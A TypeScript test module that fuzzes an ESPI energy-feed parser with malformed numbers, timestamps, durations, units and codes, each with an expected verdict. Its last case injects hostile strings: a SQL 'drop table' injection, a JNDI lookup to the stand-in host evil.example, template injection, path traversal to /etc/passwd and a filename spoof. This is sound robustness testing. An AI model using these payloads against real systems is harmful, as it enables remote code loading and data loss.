import { setAll, setLeaf } from '../edit.ts'
import { accepted, type Making, type MalformedClass, quarantined, variant, warning } from '../malformed-class.ts'

const NOT_A_NUMBER = quarantined('not_a_number')

const inLeaf =
  (leaves: readonly [string, ...string[]], values: readonly [string, ...string[]]) =>
  ({ feed, random, n }: Making): string =>
    setLeaf(feed, random, variant(n, leaves), variant(n, values))
/** The start of one reading, not of a block or a bill. */
const inStart =
  (values: readonly [string, ...string[]]) =>
  ({ feed, n }: Making): string =>
    feed.replace(/(timePeriod>.*?start>)\d+/s, (_, head: string) => head + variant(n, values))
const inAll =
  (leaf: string, values: readonly [string, ...string[]]) =>
  ({ feed, n }: Making): string =>
    setAll(feed, leaf, () => variant(n, values))

/** Numbers, moments, units and codes. */
export const VALUES: MalformedClass[] = [
  {
    name: 'NaN and Infinity',
    verdict: NOT_A_NUMBER,
    make: inLeaf(['value', 'uom', 'billLastPeriod'], ['NaN', 'Infinity', '-Infinity', 'INF', 'nan', '-1.#IND']),
  },
  {
    name: 'exponents',
    verdict: NOT_A_NUMBER,
    make: inLeaf(['value', 'billLastPeriod'], ['1e3', '1E3', '-1e-3', '1.5e2', '1e999']),
  },
  {
    name: 'hexadecimal, octal, binary',
    verdict: NOT_A_NUMBER,
    make: inLeaf(['value', 'uom'], ['0x10', '0b11', '0o17', '#FF', '10h', 'ff']),
  },
  {
    name: 'thousands separators',
    verdict: NOT_A_NUMBER,
    make: inLeaf(['value', 'billLastPeriod'], ['1,000', '1 000', '1_000', "1'000", '1.000,5', '1\u00a0000']),
  },
  { name: 'decimal comma', verdict: NOT_A_NUMBER, make: inLeaf(['value', 'billLastPeriod'], ['1,5', ',5', '1,']) },
  {
    name: 'units and currency signs',
    verdict: NOT_A_NUMBER,
    make: inLeaf(['value', 'billLastPeriod'], ['5 kWh', '$5', '5.00 USD', '€5', '(5)', '5%']),
  },
  {
    name: 'words for nothing',
    verdict: NOT_A_NUMBER,
    make: inLeaf(
      ['value', 'uom', 'billLastPeriod'],
      ['null', 'N/A', '-', '.', 'undefined', 'None', 'true', '--5', '+-5'],
    ),
  },
  {
    name: 'digits of other scripts',
    verdict: NOT_A_NUMBER,
    make: inLeaf(['value', 'billLastPeriod'], ['１２', '١٢', '१२', '²', 'Ⅻ', '1\u200b2']),
  },
  {
    name: 'signs, leading zeros and blanks',
    verdict: accepted,
    make: inLeaf(['value'], ['+5', '007', ' 5 ', '\n5\t', '-0', '-5', '5.0', '.5', '5.']),
  },
  {
    name: 'decimal where ESPI wants a whole number',
    verdict: accepted,
    make: inLeaf(['value'], ['1.5', '0.001', '-2.25']),
  },
  {
    name: 'number beyond what can be carried',
    verdict: warning('value_out_of_range'),
    make: inLeaf(['value'], ['99999999999999999999', '-99999999999999999999', '9007199254740993', '9'.repeat(60)]),
  },
  {
    name: 'code beyond what a code can be',
    verdict: quarantined('number_out_of_range'),
    make: inLeaf(['uom', 'kind', 'currency', 'statusTimeStamp'], ['99999999999999999999', '-99999999999999999999']),
  },
  {
    name: 'code that is no whole number',
    verdict: NOT_A_NUMBER,
    make: inLeaf(['uom', 'commodity', 'intervalLength', 'currency'], ['1.5', 'kWh', '72.5']),
  },
  {
    name: 'moment that is no whole number',
    verdict: NOT_A_NUMBER,
    make: inStart(['1767254400.5', '2026-01-01T00:00:00Z', 'now', '1,767,254,400', '01/01/2026']),
  },
  {
    name: 'moment before 1970',
    verdict: warning('missing_time'),
    make: inStart(['-1', '-2208988800', '-99999999999']),
  },
  {
    name: 'moment in milliseconds',
    verdict: warning('repaired_millisecondTimestamps'),
    make: inStart(['1767254400000', '1767254400001']),
  },
  { name: 'moment in the year 9999', verdict: warning('missing_time'), make: inStart(['4102444801', '9999999999']) },
  { name: 'moment beyond any number', verdict: NOT_A_NUMBER, make: inStart(['99999999999999999999', '1'.repeat(40)]) },
  {
    name: 'duration that is negative',
    verdict: warning('duration_corrected'),
    make: ({ feed, n }) =>
      setAll(feed, 'duration', (old) => (old === '900' ? variant(n, ['-900', '-1', '-86400']) : old)),
  },
  {
    name: 'duration that is zero',
    verdict: accepted,
    make: ({ feed }) => setAll(feed, 'duration', (old) => (old === '900' ? '0' : old)),
  },
  {
    name: 'duration of a century',
    verdict: warning('duration_corrected'),
    make: ({ feed, n }) =>
      setAll(feed, 'duration', (old) =>
        old === '900' ? variant(n, ['3153600000', '4294967295', '9007199254740991']) : old,
      ),
  },
  {
    name: 'duration as ISO 8601',
    verdict: NOT_A_NUMBER,
    make: ({ feed, n }) =>
      setAll(feed, 'duration', (old) => (old === '900' ? variant(n, ['PT15M', '00:15:00', '15m']) : old)),
  },
  {
    name: 'unit that nobody knows',
    verdict: warning('unsupported_unit'),
    make: inAll('uom', ['0', '9999', '-1', '255', '4']),
  },
  {
    name: 'unit that the service is not sold in',
    verdict: warning('unit_does_not_fit'),
    make: inAll('uom', ['119', '42', '134']),
  },
  {
    name: 'no unit',
    verdict: warning('assumed_reading_type'),
    make: ({ feed }) => feed.replace(/<((?:\w+:)?uom)>72<\/\1>/, ''),
  },
  {
    name: 'multiplier that no meter has',
    verdict: warning('unsupported_scale'),
    make: inAll('powerOfTenMultiplier', ['100', '-99', '2147483647', '99']),
  },
  {
    name: 'direction of one quadrant',
    verdict: warning('unsupported_flow'),
    make: inAll('flowDirection', ['2', '5', '7', '99', '-1']),
  },
  {
    name: 'codes that nobody knows yet',
    verdict: accepted,
    make: ({ feed, n }) =>
      setAll(
        setAll(feed, 'quality', () => variant(n, ['99', '-1', '65535'])),
        'kind',
        () => '250',
      ),
  },
  {
    name: 'quality in words',
    verdict: warning('unknown_elements'),
    make: inLeaf(['quality'], ['validated', 'quality1', 'A', 'NaN']),
  },
  { name: 'commodity that nobody knows', verdict: accepted, make: inAll('commodity', ['99', '-1', '255']) },
  { name: 'currency that nobody knows', verdict: accepted, make: inAll('currency', ['0', '999', '-840']) },
  {
    name: 'money finer than can be carried',
    verdict: warning('amount_unreadable'),
    make: inAll('billLastPeriod', ['99999999999999999999', '1.1234567', `0.${'1'.repeat(30)}`]),
  },
  {
    name: 'usage that only a wrong scale explains',
    verdict: warning('implausible_usage'),
    make: inAll('value', ['90000000000000', '5000000000000']),
  },
  {
    name: 'text that is markup or a command',
    verdict: accepted,
    make: inLeaf(
      ['tariffProfile', 'title'],
      [
        '&lt;script&gt;alert(1)&lt;/script&gt;',
        "'; drop table meters; --",
        '${jndi:ldap://evil.example/}',
        '{{7*7}}',
        '../../etc/passwd',
        '\u202Egpj.exe',
      ],
    ),
  },
]
